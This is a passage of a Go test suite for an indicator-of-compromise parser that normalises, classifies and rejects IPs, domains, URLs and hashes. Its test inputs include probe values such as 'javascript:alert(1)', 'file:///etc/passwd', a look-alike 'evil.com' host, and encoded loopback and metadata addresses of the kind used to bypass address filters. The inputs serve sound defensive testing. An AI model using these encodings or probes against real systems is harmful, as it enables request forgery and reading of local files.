package indicator_test

import (
	"net/netip"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/goleak"

	"vtsidecar/enrich/indicator"
)

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

func newParser(t testing.TB, cfg indicator.Config) *indicator.Parser {
	p, err := indicator.NewParser(cfg)
	require.NoError(t, err)
	return p
}

// row is a value and what becomes of it: "canonical", "skip canonical" or "skip".
type row struct{ in, want string }

// say is a Found as rows spell it, with its type where it is not the expected one.
func say(f indicator.Found, expected indicator.Type) string {
	var words []string
	if f.Type != expected {
		words = append(words, f.Type.String())
	}
	if f.Skip != indicator.Lookup {
		words = append(words, string(f.Skip))
	}
	if len(f.Canonical) > 0 {
		words = append(words, string(f.Canonical))
	}
	if f.LeftOut != "" {
		words = append(words, "-"+f.LeftOut)
	}
	return strings.Join(words, " ")
}

func check(t *testing.T, p *indicator.Parser, kind indicator.Kind, expected indicator.Type, rows []row) {
	t.Helper()
	for _, r := range rows {
		dst, f := p.Append([]byte("before "), kind, []byte(r.in))
		assert.Equal(t, r.want, say(f, expected), "%q", r.in)
		require.True(t, strings.HasPrefix(string(dst), "before "), "%q", r.in)
		if f.Skip != indicator.Invalid && f.Skip != indicator.Junk {
			assert.Equal(t, "before "+string(f.Canonical), string(dst), "%q", r.in)
		}
	}
}

const (
	md5     = "44d88612fea8a8f36de82e1278abb02f"
	sha1    = "3395856ce81f2b7382dee72602f798b642f14140"
	sha256  = "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"
	imphash = "f34d5f2d4577ed6d9ceec516c1f5a744"
)

func TestIP(t *testing.T) {
	check(t, newParser(t, indicator.Config{}), indicator.KindIP, indicator.IP, []row{
		{"203.0.113.7", "203.0.113.7"},
		{" 203.0.113.7\r\n", "203.0.113.7"},
		{"\"203.0.113.7\"", "203.0.113.7"},
		{"<203.0.113.7>", "203.0.113.7"},
		{"“203.0.113.7”", "203.0.113.7"},
		{"\ufeff203.0.113.7\u200b", "203.0.113.7"},
		{"[203.0.113.7]", "203.0.113.7"},
		{"203[.]0[.]113[.]7", "203.0.113.7"},
		{"203(.)0{.}113[dot]7", "203.0.113.7"},
		{"203.0.113[.]7", "203.0.113.7"},
		{"8.8.8.8", "8.8.8.8"},
		{"255.255.255.254", "reserved 255.255.255.254"},

		{"203.0.113.07", "invalid"},
		{"203.0.113.007", "invalid"},
		{"010.0.0.1", "invalid"},
		{"203.0.113", "invalid"},
		{"203.0.113.7.1", "invalid"},
		{"203.0.113.256", "invalid"},
		{"203.0.113.-1", "invalid"},
		{"203.0.113.7:443", "invalid"},
		{"203.0.113.7/24", "invalid"},
		{"203.0.113.7.", "invalid"},
		{".203.0.113.7", "invalid"},
		{"203..113.7", "invalid"},
		{"0x7f.0.0.1", "invalid"},
		{"2130706433", "invalid"},
		{"２０３.0.113.7", "invalid"},
		{"example.com", "invalid"},
		{"LOCAL", "invalid"},
		{"203.0.113.7,203.0.113.8", "invalid"},
		{"\x00", "junk"},

		{"10.1.2.3", "private 10.1.2.3"},
		{"172.15.255.255", "172.15.255.255"},
		{"172.16.0.0", "private 172.16.0.0"},
		{"172.31.255.255", "private 172.31.255.255"},
		{"172.32.0.0", "172.32.0.0"},
		{"192.168.0.1", "private 192.168.0.1"},
		{"192.167.255.255", "192.167.255.255"},
		{"100.63.255.255", "100.63.255.255"},
		{"100.64.0.0", "private 100.64.0.0"},
		{"100.127.255.255", "private 100.127.255.255"},
		{"100.128.0.0", "100.128.0.0"},
		{"127.0.0.1", "private 127.0.0.1"},
		{"127.255.255.255", "private 127.255.255.255"},
		{"169.254.169.254", "private 169.254.169.254"},
		{"169.253.0.1", "169.253.0.1"},
		{"0.0.0.0", "reserved 0.0.0.0"},
		{"0.1.2.3", "reserved 0.1.2.3"},
		{"192.0.0.8", "reserved 192.0.0.8"},
		{"192.88.99.1", "reserved 192.88.99.1"},
		{"198.17.255.255", "198.17.255.255"},
		{"198.18.0.1", "reserved 198.18.0.1"},
		{"198.19.255.255", "reserved 198.19.255.255"},
		{"198.20.0.0", "198.20.0.0"},
		{"192.31.196.1", "reserved 192.31.196.1"},
		{"192.52.193.1", "reserved 192.52.193.1"},
		{"192.175.48.1", "reserved 192.175.48.1"},
		{"223.255.255.255", "223.255.255.255"},
		{"224.0.0.1", "reserved 224.0.0.1"},
		{"239.255.255.250", "reserved 239.255.255.250"},
		{"240.0.0.1", "reserved 240.0.0.1"},
		{"255.255.255.255", "reserved 255.255.255.255"},
		{"192.0.2.1", "192.0.2.1"},
		{"198.51.100.1", "198.51.100.1"},
		{"1.1.1.1", "1.1.1.1"},

		{"2001:DB8:0:0:0:0:0:1", "2001:db8::1"},
		{"2001:db8::1", "2001:db8::1"},
		{"2001:0db8:0000:0000:0001:0000:0000:0001", "2001:db8::1:0:0:1"},
		{"[2606:4700:4700::1111]", "2606:4700:4700::1111"},
		{"2606:4700:4700::", "2606:4700:4700::"},
		{"2606[:]4700:4700[:]:1111", "2606:4700:4700::1111"},
		{"::ffff:203.0.113.7", "203.0.113.7"},
		{"::FFFF:cb00:7107", "203.0.113.7"},
		{"0:0:0:0:0:ffff:203.0.113.7", "203.0.113.7"},
		{"::ffff:10.0.0.1", "private 10.0.0.1"},
		{"64:ff9b::203.0.113.7", "203.0.113.7"},
		{"64:ff9b::a00:1", "private 10.0.0.1"},
		{"64:ff9b:1::1", "private 64:ff9b:1::1"},
		{"3fff::1", "3fff::1"},
		{"2002:cb00:7107::1", "2002:cb00:7107::1"},
		{"2002:a00:1::1", "private 2002:a00:1::1"},
		{"2002:e000:1::1", "reserved 2002:e000:1::1"},
		{"::1", "private ::1"},
		{"fc00::1", "private fc00::1"},
		{"fdff::1", "private fdff::1"},
		{"fe80::1", "private fe80::1"},
		{"fe80::1%eth0", "private fe80::1"},
		{"[fe80::1%25eth0]", "private fe80::1"},
		{"2606:4700::1%3", "private 2606:4700::1"},
		{"fec0::1", "private fec0::1"},
		{"::", "reserved ::"},
		{"::203.0.113.7", "reserved ::cb00:7107"},
		{"100::1", "reserved 100::1"},
		{"2001::1", "reserved 2001::1"},
		{"2001:2::1", "reserved 2001:2::1"},
		{"2001:200::1", "2001:200::1"},
		{"2620:4f:8000::1", "reserved 2620:4f:8000::1"},
		{"5f00::1", "reserved 5f00::1"},
		{"4000::1", "reserved 4000::1"},
		{"ff02::1", "reserved ff02::1"},

		{"2001:db8::1::2", "invalid"},
		{"2001:db8:1", "invalid"},
		{"1:2:3:4:5:6:7:8:9", "invalid"},
		{"1:2:3:4:5:6:7:", "invalid"},
		{":1:2:3:4:5:6:7", "invalid"},
		{"1:2:3:4:5:6:7::8", "invalid"},
		{"12345::1", "invalid"},
		{"g::1", "invalid"},
		{"fe80::1%", "invalid"},
		{"[::1]:80", "invalid"},
		{"::ffff:203.0.113.07", "invalid"},
		{"::ffff:203.0.113.7:1", "invalid"},
		{"1:2:3:4:5:6:7:1.2.3.4", "invalid"},
		{"00:11:22:33:44:55", "invalid"},
		{"203.0.113.7%eth0", "invalid"},
		{strings.Repeat("1", 1000), "invalid"},
	})
}

func TestJunk(t *testing.T) {
	p := newParser(t, indicator.Config{})
	for _, value := range []string{"", " ", "-", "--", "N/A", "n/a", "unknown", "Unknown", "NULL", "null", "none", "(null)", "<nil>", "\"\"", "'-'", "\t-\n", "undefined", ".", "*", "?"} {
		for kind, typ := range map[indicator.Kind]indicator.Type{
			indicator.KindAuto: indicator.None, indicator.KindIP: indicator.IP, indicator.KindDomain: indicator.Domain,
			indicator.KindURL: indicator.URL, indicator.KindHash: indicator.Hash,
		} {
			dst, f := p.Append(nil, kind, []byte(value))
			assert.Equal(t, indicator.Found{Type: typ, Skip: indicator.Junk}, f, "%q", value)
			assert.Empty(t, dst)
		}
	}
}

func TestHash(t *testing.T) {
	check(t, newParser(t, indicator.Config{}), indicator.KindHash, indicator.Hash, []row{
		{md5, md5},
		{strings.ToUpper(sha1), sha1},
		{" " + strings.ToUpper(sha256) + "\n", sha256},
		{"'" + sha256 + "'", sha256},
		{"sha256:" + sha256, sha256},
		{"SHA256=" + strings.ToUpper(sha256), sha256},
		{"SHA-256 = " + sha256, sha256},
		{"md5: " + md5, md5},
		{"MD5 " + md5, md5},
		{"SHA1=" + sha1 + ",MD5=" + md5 + ",SHA256=" + strings.ToUpper(sha256) + ",IMPHASH=" + imphash, sha256},
		{"IMPHASH=" + imphash + ", sha256=" + sha256 + ", md5=" + md5, sha256},
		{"MD5=" + md5 + ",IMPHASH=" + imphash, md5},
		{"imphash=" + imphash + ";SHA1=" + sha1 + ";MD5=" + md5, sha1},
		{"SHA1=" + sha1 + "|MD5=" + md5, sha1},
		{"MD5= " + md5 + ", SHA1= " + sha1, sha1},
		{"SHA256=,MD5=" + md5, md5},
		{md5 + "," + sha256, sha256},
		{"MD5=" + strings.Repeat("0", 32) + ",SHA1=" + sha1, sha1},

		{"IMPHASH=" + imphash, "invalid"},
		{"IMPHASH= " + imphash, "invalid"},
		{"IMPHASH=" + imphash + ",", "invalid"},
		{"imphash:" + imphash, "invalid"},
		{"SHA256=" + md5, "invalid"},
		{"md5:" + sha1, "invalid"},
		{"ssdeep=3:AIO9AJraNvsgzsVqSwHqiUZ:AeJuOgzskwZ", "invalid"},
		{"sha512:" + sha256 + sha256, "invalid"},
		{md5[:31], "invalid"},
		{md5 + "0", "invalid"},
		{md5[:31] + "g", "invalid"},
		{sha256[:63] + "é", "invalid"},
		{"0x" + md5, "invalid"},
		{"IMPHASH " + imphash, "invalid"},
		{"IMPHASH = " + imphash + " MD5 = " + md5, md5},
		{"quick " + md5, "invalid"},
		{"quick, " + md5, md5},
		{"hello", "invalid"},
		{"203.0.113.7", "invalid"},
		{",,,=:;", "invalid"},

		{strings.Repeat("0", 32), "junk " + strings.Repeat("0", 32)},
		{strings.Repeat("0", 64), "junk " + strings.Repeat("0", 64)},
		{"D41D8CD98F00B204E9800998ECF8427E", "junk d41d8cd98f00b204e9800998ecf8427e"},
		{"da39a3ee5e6b4b0d3255bfef95601890afd80709", "junk da39a3ee5e6b4b0d3255bfef95601890afd80709"},
		{"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", "junk e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"},
		{"SHA256=E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855,MD5=" + md5, "junk e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"},
	})
}

func TestAppendHashes(t *testing.T) {
	p := newParser(t, indicator.Config{Hashes: []string{strings.ToUpper(md5)}})
	members := func(pairs ...string) (out []indicator.Member) {
		for i := 0; i < len(pairs); i += 2 {
			out = append(out, indicator.Member{Key: []byte(pairs[i]), Value: []byte(pairs[i+1])})
		}
		return out
	}
	const otherMD5 = "0cc175b9c0f1b6a831c399e269772661"
	for _, tc := range []struct {
		name string
		in   []indicator.Member
		want string
	}{
		{"best", members("md5", otherMD5, "sha256", strings.ToUpper(sha256), "sha1", sha1), sha256},
		{"case of keys", members("MD5", otherMD5, "SHA1", sha1), sha1},
		{"others are none", members("imphash", imphash, "ssdeep", "3:a:b", "tlsh", md5, "pehash", sha1, "sha512", sha256, "md5", otherMD5), otherMD5},
		{"only others", members("imphash", imphash), "invalid"},
		{"nothing", nil, "invalid"},
		{"no values", members("md5", "-", "sha1", "", "sha256", "N/A"), "invalid"},
		{"wrong length", members("sha256", md5, "sha1", sha256), "invalid"},
		{"placeholder beside a value", members("sha256", "-", "md5", otherMD5), otherMD5},
		{"white space", members("md5", " "+otherMD5+" "), otherMD5},
		{"junk", members("md5", "d41d8cd98f00b204e9800998ecf8427e"), "junk d41d8cd98f00b204e9800998ecf8427e"},
		{"only the best counts as junk", members("md5", "d41d8cd98f00b204e9800998ecf8427e", "sha1", sha1), sha1},
		{"allow-listed by another hash of the file", members("sha256", sha256, "md5", md5), "allow_listed " + sha256},
	} {
		dst, f := p.AppendHashes([]byte("x"), tc.in)
		assert.Equal(t, tc.want, say(f, indicator.Hash), tc.name)
		assert.Equal(t, "x"+string(f.Canonical), string(dst), tc.name)
	}
}

func TestDomain(t *testing.T) {
	long := strings.Repeat("a", 63)
	check(t, newParser(t, indicator.Config{}), indicator.KindDomain, indicator.Domain, []row{
		{"example.com", "example.com"},
		{"EXAMPLE.Com.", "example.com"},
		{" example.com ", "example.com"},
		{"example[.]com", "example.com"},
		{"example(dot)com", "example.com"},
		{"example{.}co[DOT]uk", "example.co.uk"},
		{"a.b.c.d.example.org", "a.b.c.d.example.org"},
		{"r3---sn-4g5e6n7k.googlevideo.com", "r3---sn-4g5e6n7k.googlevideo.com"},
		{"xn--bcher-kva.example.com", "xn--bcher-kva.example.com"},
		{"XN--BCHER-KVA.example.com", "xn--bcher-kva.example.com"},
		{"bücher.example.com", "xn--bcher-kva.example.com"},
		{"BÜCHER.example.com", "xn--bcher-kva.example.com"},
		{"bu\u0308cher.example.com", "xn--bcher-kva.example.com"},
		{"faß.de", "xn--fa-hia.de"},
		{"例え。テスト", "xn--r8jz45g.xn--zckzah"},
		{"пример.рф", "xn--e1afmkfd.xn--p1ai"},
		{"ｅｘａｍｐｌｅ．ｃｏｍ", "example.com"},
		{"my_host.example.com", "my_host.example.com"},
		{"1.example.com", "1.example.com"},
		{"3com.com", "3com.com"},
		{long + ".com", long + ".com"},
		{"com.example-", "invalid"},
		{"203.0.113.7", "ip 203.0.113.7"},
		{"203[.]0.113.7", "ip 203.0.113.7"},
		{"127.0.0.1.", "ip private 127.0.0.1"},
		{"１２７.0.0.1", "ip private 127.0.0.1"},
		{"2606:4700::1111", "ip 2606:4700::1111"},
		{"[::1]", "ip private ::1"},
		{"10.0.0.1", "ip private 10.0.0.1"},

		{"localhost", "internal localhost"},
		{"WORKSTATION7", "internal workstation7"},
		{"printer.local", "internal printer.local"},
		{"a.localhost", "internal a.localhost"},
		{"db.internal", "internal db.internal"},
		{"nas.lan", "internal nas.lan"},
		{"dc01.ad.corp", "internal dc01.ad.corp"},
		{"a.test", "internal a.test"},
		{"a.invalid", "internal a.invalid"},
		{"a.example", "internal a.example"},
		{"router.home.arpa", "internal router.home.arpa"},
		{"home.arpa", "internal home.arpa"},
		{"7.113.0.203.in-addr.arpa", "internal 7.113.0.203.in-addr.arpa"},
		{"1.0.0.0.ip6.arpa.", "internal 1.0.0.0.ip6.arpa"},
		{"_ldap._tcp.dc._msdcs.example.com", "internal _ldap._tcp.dc._msdcs.example.com"},
		{"a._domainkey.example.com", "internal a._domainkey.example.com"},
		{"local.example.com", "local.example.com"},
		{"mylocal", "internal mylocal"},
		{"notlocal.com", "notlocal.com"},
		{"xlan.xlan", "xlan.xlan"},
		{"ns.e164.arpa", "ns.e164.arpa"},

		{"example..com", "invalid"},
		{".example.com", "invalid"},
		{"*.example.com", "invalid"},
		{"example.com..", "invalid"},
		{"-a.example.com", "invalid"},
		{"a-.example.com", "invalid"},
		{"example.com-", "invalid"},
		{"a..b", "invalid"},
		{"0x.com", "0x.com"},
		{"a.0xg", "a.0xg"},
		{"a.0x", "invalid"},
		{"exa mple.com", "invalid"},
		{"example.com:443", "invalid"},
		{"http://example.com", "invalid"},
		{"example.com/path", "invalid"},
		{"user@example.com", "invalid"},
		{"example.123", "invalid"},
		{"1.2.3", "invalid"},
		{"1.2.3.4.5", "invalid"},
		{"0x7f.1", "invalid"},
		{"127.0.0.0x1", "invalid"},
		{"127.1", "invalid"},
		{"2130706433", "invalid"},
		{long + "a.com", "invalid"},
		{strings.Repeat(long+".", 4) + "com", "invalid"},
		{"a\x00b.com", "invalid"},
		{"a\nb.com", "invalid"},
		{"exa%6dple.com", "invalid"},
		{"\xff.com", "invalid"},
		{"a\u2025com", "invalid"},
		{strings.Repeat("ü", 3000) + ".com", "invalid"},
	})
	// 253 bytes are allowed, a dot at the end does not count.
	name := strings.Repeat(long[:62]+".", 4) + "a"
	require.Len(t, name, 253)
	check(t, newParser(t, indicator.Config{}), indicator.KindDomain, indicator.Domain, []row{{name, name}, {name + ".", name}, {name + "a", "invalid"}})
}

func TestURL(t *testing.T) {
	const host = "http://example.com"
	common := []row{
		{"http://example.com", "http://example.com/"},
		{"HTTP://EXAMPLE.COM/", "http://example.com/"},
		{"https://example.com/A/b.PHP", "https://example.com/A/b.PHP"},
		{"ftp://example.com:21/x", "ftp://example.com/x"},
		{"http://example.com:80/", "http://example.com/"},
		{"https://example.com:443", "https://example.com/"},
		{"http://example.com:0443/", "http://example.com:443/"},
		{"https://example.com:80/", "https://example.com:80/"},
		{"http://example.com:/", "http://example.com/"},
		{"http://example.com./x", "http://example.com/x"},
		{"http://bücher.example.com/ü", "http://xn--bcher-kva.example.com/%C3%BC"},
		{"http://exa%6Dple.com/", "http://example.com/"},
		{"hxxp://example[.]com/a", "http://example.com/a"},
		{"hXXps://example[.]com/a", "https://example.com/a"},
		{"hxxps[:]//example[.]com/a", "https://example.com/a"},
		{"hxxps[://]example.com/a", "https://example.com/a"},
		{"http[:]//example.com", "http://example.com/"},
		{"http[s]://example.com", "https://example.com/"},
		{"h**p://example.com", "http://example.com/"},
		{"fxp://example.com/a", "ftp://example.com/a"},
		{"hxxp://example.com/a[.]php", "http://example.com/a.php"},
		{"http://example[.]com/a[.]php", "http://example.com/a.php"},
		{"http://example.com/a[.]php", "http://example.com/a[.]php"},
		{"hxxp://203[.]0[.]113[.]7/x", "http://203.0.113.7/x"},
		{"hxxp[:]/[/]example.com", "http://example.com/"},
		{"<http://example.com/>", "http://example.com/"},
		{"\"http://example.com/\"", "http://example.com/"},
		{"http:\\\\example.com\\a\\b", "http://example.com/a/b"},
		{"http:/example.com", "http://example.com/"},
		{"http:///example.com/", "http://example.com/"},
		{"http://203.0.113.7:8080/x", "http://203.0.113.7:8080/x"},
		{"http://[2001:DB8::1]:8080/x", "http://[2001:db8::1]:8080/x"},
		{"http://[2001:db8::1]", "http://[2001:db8::1]/"},
		{"http://[::ffff:203.0.113.7]/", "http://203.0.113.7/"},
		{"http://example.com/a b", "http://example.com/a%20b"},
		{"http://example.com/a\tb\nc", "http://example.com/a%09b%0Ac"},
		{"http://example.com/%zz%4", "http://example.com/%25zz%254"},
		{"http://example.com/%7e%3A", "http://example.com/%7e%3A"},
		{"http://example.com/\"<>`{}|^\x7f\xff", "http://example.com/%22%3C%3E%60%7B%7D%7C%5E%7F%FF"},
		{"http://example.com/a/../b/./c//d", "http://example.com/a/../b/./c//d"},
		{"http://my_host.example.com/", "http://my_host.example.com/"},
		{"example.com/path", "http://example.com/path"},
		{"example.com", "http://example.com/"},
		{"example.com:8080/x", "http://example.com:8080/x"},
		{"203.0.113.7/x", "http://203.0.113.7/x"},
		{"[2001:db8::1]/x", "http://[2001:db8::1]/x"},
		{"example[.]com/path", "http://example.com/path"},
		{"http://example.com?", "http://example.com/"},
		{"http://example.com/#", "http://example.com/"},

		{"http://user:secret@example.com/", "http://example.com/ -user info"},
		{"http://a@b@example.com/", "http://example.com/ -user info"},
		{"http://good.com\\@example.com/", "http://good.com/@example.com/"},
		{"http://example.com/#frag?x", "http://example.com/ -fragment"},
		{"http://example.com/a@b", "http://example.com/a@b"},

		{"http://10.0.0.1/x", "private http://10.0.0.1/x"},
		{"http://%31%32%37.0.0.1/", "private http://127.0.0.1/"},
		{"http://１０。0。0。1/", "private http://10.0.0.1/"},
		{"http://127.0.0.1.:80/", "private http://127.0.0.1/"},
		{"http://[fe80::1%25eth0]/", "private http://[fe80::1]/"},
		{"http://224.0.0.1/", "reserved http://224.0.0.1/"},

		// As the WHATWG's URL standard reads numbers.
		{"http://3405803783/x", "http://203.0.113.7/x"},
		{"hxxp://3405803783/x", "http://203.0.113.7/x"},
		{"http://0xCB007107:8080/", "http://203.0.113.7:8080/"},
		{"http://0xcb.0x00.0x71.0x07/", "http://203.0.113.7/"},
		{"http://0313.0.0161.07/", "http://203.0.113.7/"},
		{"http://203.0.28935/", "http://203.0.113.7/"},
		{"http://203.28935./", "http://203.0.113.7/"},
		{"http://%30xcb.0.113.7/", "http://203.0.113.7/"},
		{"http://３４０５８０３７８３/", "http://203.0.113.7/"},
		{"http://00000000000000000000000000000000000313.0.113.7/", "http://203.0.113.7/"},
		{"http://u:p@0xcb007107/", "http://203.0.113.7/ -user info"},
		{"http://2130706433/", "private http://127.0.0.1/"},
		{"http://0x7f.0.0.1/", "private http://127.0.0.1/"},
		{"http://0177.0.0.1/", "private http://127.0.0.1/"},
		{"http://127.1/", "private http://127.0.0.1/"},
		{"http://0/", "reserved http://0.0.0.0/"},
		{"http://0x/", "reserved http://0.0.0.0/"},
		{"http://intranet/wiki", "internal http://intranet/wiki"},
		{"http://localhost:8080/", "internal http://localhost:8080/"},
		{"https://wiki.corp/", "internal https://wiki.corp/"},

		{"http://", "invalid"},
		{"http:///", "invalid"},
		{"http://:80/", "invalid"},
		{"http://user@/", "invalid"},
		{"http://example.com:0/", "invalid"},
		{"http://example.com:65536/", "invalid"},
		{"http://example.com:80x/", "invalid"},
		{"http://example.com:8:8/", "invalid"},
		{"http://2001:db8::1/", "invalid"},
		{"http://[2001:db8::1/", "invalid"},
		{"http://[example.com]/", "invalid"},
		{"http://exa mple.com/", "invalid"},
		{"http://example%00.com/", "invalid"},
		{"http://example%2.com/", "invalid"},
		{"2130706433/", "invalid"},
		{"127.1/x", "invalid"},
		{"http://256.0.0.1/", "invalid"},
		{"http://1.2.3.4.5/", "invalid"},
		{"http://1..2/", "invalid"},
		{"http://4294967296/", "invalid"},
		{"http://0x100000000/", "invalid"},
		{"http://99999999999999999999999999/", "invalid"},
		{"http://1.16777216/", "invalid"},
		{"http://1.2.65536/", "invalid"},
		{"http://1.2.3.256/", "invalid"},
		{"http://1.256.3/", "invalid"},
		{"http://09.0.0.1/", "invalid"},
		{"http://0x7g.1/", "invalid"},
		{"http://foo.0x4/", "invalid"},
		{"http://foo.1/", "invalid"},
		{"http://0x.x/", "http://0x.x/"},
		{"mailto:a@example.com", "invalid"},
		{"javascript:alert(1)", "invalid"},
		{"file:///etc/passwd", "invalid"},
		{"ldap://example.com/", "invalid"},
		{"ws://example.com/", "invalid"},
		{"data:text/html,x", "invalid"},
		{"/path/only", "invalid"},
		{"?q=1", "invalid"},
		{"word", "invalid"},
		{"word/path", "invalid"},
		{"a@example.com", "invalid"},
		{host + "/" + strings.Repeat("a", 8<<10), "invalid"},
		{host + "/" + strings.Repeat("ü", 3<<10), "invalid"},
	}
	p := newParser(t, indicator.Config{URLParts: "strip_query"})
	check(t, p, indicator.KindURL, indicator.URL, common)
	check(t, p, indicator.KindURL, indicator.URL, []row{
		{"http://example.com/a?b=c", "http://example.com/a -query"},
		{"http://example.com?b=c#d", "http://example.com/ -query, fragment"},
		{"http://u:p@example.com/a?b#c", "http://example.com/a -query, user info, fragment"},
	})
	p = newParser(t, indicator.Config{URLParts: "full"})
	check(t, p, indicator.KindURL, indicator.URL, common)
	check(t, p, indicator.KindURL, indicator.URL, []row{
		{"http://example.com/a?b=c", "http://example.com/a?b=c"},
		{"http://example.com?b=c#d", "http://example.com/?b=c -fragment"},
		{"http://example.com/?a b\\?c\"ü%", "http://example.com/?a%20b%5C?c%22%C3%BC%25"},
		{"http://u@example.com/?u=http://x@y/", "http://example.com/?u=http://x@y/ -user info"},
	})
	p = newParser(t, indicator.Config{URLParts: "host"})
	check(t, p, indicator.KindURL, indicator.Domain, []row{
		{"http://example.com", "example.com"},
		{"http://EXAMPLE.com:8080/", "example.com"},
		{"http://example.com/a", "example.com -path"},
		{"http://example.com/?a", "example.com -query"},
		{"http://u@example.com/a?b=c#d", "example.com -path and query, user info, fragment"},
		{"http://203.0.113.7/a?b", "ip 203.0.113.7 -path and query"},
		{"http://[2001:db8::1]/", "ip 2001:db8::1"},
		{"http://10.0.0.1/a", "ip private 10.0.0.1 -path"},
		{"http://intranet/", "internal intranet"},
		{"nonsense", "url invalid"},
	})
}

func TestAuto(t *testing.T) {
	check(t, newParser(t, indicator.Config{URLParts: "full"}), indicator.KindAuto, indicator.None, []row{
		{strings.ToUpper(md5), "hash " + md5},
		{"SHA1=" + sha1 + ",MD5=" + md5, "hash " + sha1},
		{strings.Repeat("0", 40), "hash junk " + strings.Repeat("0", 40)},
		{"203.0.113.7", "ip 203.0.113.7"},
		{"::ffff:203.0.113.7", "ip 203.0.113.7"},
		{"10.0.0.1", "ip private 10.0.0.1"},
		{"2001:db8::1", "ip 2001:db8::1"},
		{"hxxp://example[.]com/a", "url http://example.com/a"},
		{"http://example.com/?sha1=1,md5=" + md5, "url http://example.com/?sha1=1,md5=" + md5},
		{"http[:]//example.com", "url http://example.com/"},
		{"example.com", "domain example.com"},
		{"localhost", "domain internal localhost"},
		{"example[.]com", "domain example.com"},
		{"example.com/path", "invalid"},
		{"203.0.113.7:443", "invalid"},
		{"file:///etc/passwd", "invalid"},
		{"http://", "invalid"},
		{"what a day", "invalid"},
		{"C:\\Windows\\System32\\cmd.exe", "invalid"},
		{"user@example.com", "invalid"},
	})
	_, f := newParser(t, indicator.Config{}).Append(nil, indicator.KindScan, []byte("example.com"))
	assert.Equal(t, indicator.Invalid, f.Skip, "free text is for AppendText")
}

func TestSkipRulesOfTheOperator(t *testing.T) {
	p := newParser(t, indicator.Config{
		Networks: []netip.Prefix{
			netip.MustParsePrefix("203.0.113.0/24"), netip.MustParsePrefix("203.0.113.64/26"), netip.MustParsePrefix("8.8.8.8/32"),
			netip.MustParsePrefix("198.51.100.77/25"), netip.MustParsePrefix("2606:4700::/32"), netip.MustParsePrefix("::ffff:9.9.9.0/120"),
		},
		Domains: []string{"example.org", ".Example.NET.", "*.bücher.example.com"},
		Hashes:  []string{strings.ToUpper(sha256)},
	})
	check(t, p, indicator.KindAuto, indicator.None, []row{
		{"203.0.112.255", "ip 203.0.112.255"},
		{"203.0.113.0", "ip allow_listed 203.0.113.0"},
		{"203.0.113.200", "ip allow_listed 203.0.113.200"},
		{"203.0.114.0", "ip 203.0.114.0"},
		{"8.8.8.7", "ip 8.8.8.7"},
		{"8.8.8.8", "ip allow_listed 8.8.8.8"},
		{"8.8.8.9", "ip 8.8.8.9"},
		{"9.9.9.9", "ip allow_listed 9.9.9.9"},
		{"198.51.100.127", "ip allow_listed 198.51.100.127"},
		{"198.51.100.128", "ip 198.51.100.128"},
		{"2606:4700:ffff::1", "ip allow_listed 2606:4700:ffff::1"},
		{"2606:4701::", "ip 2606:4701::"},
		{"1.1.1.1", "ip 1.1.1.1"},
		{"10.0.0.1", "ip private 10.0.0.1"},
		{"example.org", "domain allow_listed example.org"},
		{"A.b.EXAMPLE.org.", "domain allow_listed a.b.example.org"},
		{"notexample.org", "domain notexample.org"},
		{"org", "domain internal org"},
		{"www.example.net", "domain allow_listed www.example.net"},
		{"a.xn--bcher-kva.example.com", "domain allow_listed a.xn--bcher-kva.example.com"},
		{"http://www.example.org/a", "url allow_listed http://www.example.org/a"},
		{"http://203.0.113.1/a", "url allow_listed http://203.0.113.1/a"},
		{"http://example.org.evil.com/a", "url http://example.org.evil.com/a"},
		{sha256, "hash allow_listed " + sha256},
		{"MD5=" + md5 + ",SHA256=" + sha256, "hash allow_listed " + sha256},
		{md5, "hash " + md5},
	})
}

func TestTypesThatAreOff(t *testing.T) {
	p := newParser(t, indicator.Config{Types: []indicator.Type{indicator.Hash, indicator.IP}})
	check(t, p, indicator.KindAuto, indicator.None, []row{
		{md5, "hash " + md5},
		{"203.0.113.7", "ip 203.0.113.7"},
		{"Example.com", "domain type_off example.com"},
		{"a.local", "domain internal a.local"},
		{"http://example.com", "url type_off http://example.com/"},
	})
	p = newParser(t, indicator.Config{Types: []indicator.Type{indicator.URL}, URLParts: "host"})
	check(t, p, indicator.KindURL, indicator.Domain, []row{{"http://example.com", "type_off example.com"}})
	p = newParser(t, indicator.Config{Types: []indicator.Type{indicator.URL}})
	_, f := p.AppendHashes(nil, []indicator.Member{{Key: []byte("md5"), Value: []byte(md5)}})
	assert.Equal(t, indicator.TypeOff, f.Skip)
}

func TestNewParserChecksItsRules(t *testing.T) {
	for _, cfg := range []indicator.Config{
		{Types: []indicator.Type{indicator.None}},
		{Types: []indicator.Type{99}},
		{URLParts: "all"},
		{Networks: []netip.Prefix{{}}},
		{Domains: []string{"not a domain"}},
		{Domains: []string{""}},
		{Domains: []string{"203.0.113.7"}},
		{Hashes: []string{"abc"}},
	} {
		_, err := indicator.NewParser(cfg)
		assert.Error(t, err, "%+v", cfg)
	}
}

func TestText(t *testing.T) {
	p := newParser(t, indicator.Config{URLParts: "full", Domains: []string{"allowed.com"}})
	found := func(text string) string {
		var out []string
		before := []byte("before")
		dst := p.AppendText(before, []byte(text), func(f indicator.Found) bool {
			out = append(out, say(f, indicator.None))
			return true
		})
		assert.Equal(t, "before", string(dst))
		return strings.Join(out, " + ")
	}
	for _, r := range []row{
		{"", ""},
		{"nothing to see here, move along. Really...", ""},
		{"GET from 203.0.113.7 to example.com.", "ip 203.0.113.7 + domain example.com"},
		{"see http://example.com/a, or (https://example.org/b).", "url http://example.com/a + url https://example.org/b"},
		{"see http://example.com/a_(b) and (http://example.com/c(d))", "url http://example.com/a_(b) + url http://example.com/c(d)"},
		{"hxxp://example[.]com/a[.]php and 203[.]0[.]113[.]7", "url http://example.com/a.php + ip 203.0.113.7"},
		{"hxxps[://]example[.]com", "url https://example.com/"},
		{"http://a.com,http://b.com;http://c.com", "url http://a.com/ + url http://b.com/ + url http://c.com/"},
		{"http://a.com/?u=http://b.com/", "url http://a.com/?u=http://b.com/"},
		{"url=http://a.com/x", "url http://a.com/x"},
		{"<a href=\"http://a.com/x\">b.com</a>", "url http://a.com/x + domain b.com"},
